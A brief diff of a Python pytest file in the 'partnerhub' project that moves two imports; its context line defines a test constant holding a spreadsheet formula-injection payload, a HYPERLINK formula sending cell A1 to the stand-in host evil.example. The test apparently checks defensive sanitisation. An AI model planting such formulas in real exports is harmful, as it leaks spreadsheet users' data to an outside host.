@@ -6,8 +6,8 @@ from datetime import timedelta
 
 import pytest
 
-from partnerhub import flags
-from partnerhub.db import utcnow
+from partnerhub.core.db import utcnow
+from partnerhub.reports import flags
 
 FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
 
